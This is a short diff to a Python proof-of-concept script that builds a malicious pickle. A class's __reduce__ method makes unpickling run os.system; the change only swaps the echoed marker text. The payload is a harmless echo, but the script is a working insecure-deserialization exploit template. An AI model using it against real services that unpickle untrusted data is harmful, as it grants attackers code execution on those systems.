@@ -2,6 +2,6 @@
 import os, pickle
 class Bomb:
     def __reduce__(self):
-        return (os.system, ("echo BREACHED",))
+        return (os.system, ("echo OWNED",))
 data = pickle.dumps(Bomb())
 os.write(1, data)
